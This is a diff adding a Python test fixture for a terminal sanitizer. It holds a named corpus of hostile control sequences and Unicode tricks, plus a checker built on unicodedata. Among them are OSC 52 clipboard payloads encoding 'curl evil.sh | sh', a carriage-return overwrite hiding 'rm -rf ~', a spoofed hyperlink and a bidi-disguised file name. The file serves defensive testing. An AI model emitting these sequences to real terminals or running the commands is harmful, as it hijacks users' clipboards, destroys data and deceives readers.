@@ -1,0 +1,67 @@
+"""Hostile text for the terminal tests: every class of control sequence a link holder or an agent
+could send, and the check that none of it reached a terminal.
+
+The check is independent of tunnel/terminal/sanitize.py: it asks `unicodedata`.
+"""
+
+from __future__ import annotations
+
+import unicodedata
+
+CORPUS: dict[str, str] = {
+    "csi clear screen": "\x1b[2J\x1b[H",
+    "csi cursor up and erase line": "\x1b[1A\x1b[2K",
+    "sgr colour and conceal": "\x1b[31;1mred\x1b[8mhidden\x1b[0m",
+    "osc 0 title, bel": "\x1b]0;pwned title\x07",
+    "osc 2 title, st": "\x1b]2;pwned title\x1b\\",
+    "osc 52 clipboard, bel": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07",
+    "osc 52 clipboard, st": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x1b\\",
+    "osc 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\innocent\x1b]8;;\x1b\\",
+    "dcs": "\x1bP1$r0m\x1b\\",
+    "apc": "\x1b_apc payload\x1b\\",
+    "pm": "\x1b^pm payload\x1b\\",
+    "sos": "\x1bXsos payload\x1b\\",
+    "c1 csi": "\x9b2J",
+    "c1 osc and st": "\x9d0;pwned\x9c",
+    "c1 dcs, nel, ind": "\x90q\x9c\x85\x84",
+    "bidi override": "invoice\u202efdp.exe",
+    "bidi embeddings and marks": "\u202a\u202b\u202c\u202d\u200e\u200f\u061c",
+    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
+    "zero-width and bom": "zero\u200bwidth\u2060joined\ufeff",
+    "tag characters": "\U000e0001\U000e0041\U000e0042\U000e007f",
+    "line and paragraph separators": "a\u2028b\u2029c",
+    "nul, bel, backspace": "a\x00b\x07c\x08d",
+    "cr overwrite": "harmless\rrm -rf ~",
+    "vt, ff, del": "\x0b\x0c\x7f",
+    "lone esc at the end": "tail\x1b",
+}
+"""Each class of dangerous text, by name. Every value travels over the wire (msgpack, JSON)."""
+
+LONE_SURROGATES = "\ud800x\udfff"
+"""Not encodable as UTF-8, so never on the wire; `printable` must still escape them."""
+
+WIRE = "".join(CORPUS.values())
+"""The whole corpus as one string, for surfaces that take any length."""
+
+NAMES = (
+    "n1\x1b[2J\x1b]0;t\x07\x1b]52;c;eA==\x07\x1b]52;c;eA==\x1b\\\x1b",
+    "n2\x1b]8;;http://e/\x1b\\l\x1b]8;;\x1b\\\x1bPq\x1b\\\x1b_a\x1b\\\x1b^p\x1b\\\x1bXs\x1b\\",
+    "n3\x9b2J\x9d0;t\x9c\u202eab\u2066c\u2069\u200b\U000e0041\x00\x07\x08\r\x7f\x1b",
+)
+"""Display names (64 characters at most) that together hold every class of the corpus."""
+
+KEPT = frozenset("\n\t\u200c\u200d")
+"""Controls and format characters that may be printed: line breaks, tabs, and the zero-width
+(non-)joiner that scripts and emoji need."""
+
+
+def is_dangerous(char: str) -> bool:
+    """Whether a terminal would act on `char`, or not show it: a control, a format character
+    (bidi, zero-width, tags), a line or paragraph separator, a surrogate."""
+    category = unicodedata.category(char)
+    return char not in KEPT and category in ("Cc", "Cf", "Cs", "Zl", "Zp")
+
+
+def dangerous(text: str) -> list[str]:
+    """The dangerous characters of `text`, as escapes (empty when it is safe to print)."""
+    return sorted({f"U+{ord(c):04X}" for c in text if is_dangerous(c)})
